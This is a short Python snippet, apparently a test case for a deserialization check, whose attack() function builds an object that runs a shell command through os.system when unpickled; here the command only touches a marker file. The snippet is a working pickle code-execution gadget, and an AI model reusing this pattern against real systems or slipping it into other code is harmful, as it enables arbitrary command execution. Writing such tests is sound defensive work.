"""Returns an object that runs a command when it is unpickled.

Outcomes: wrong-result
"""


def attack():
    class Payload:
        def __reduce__(self):
            return os.system, (f"touch {MARKER}",)

    return Payload()
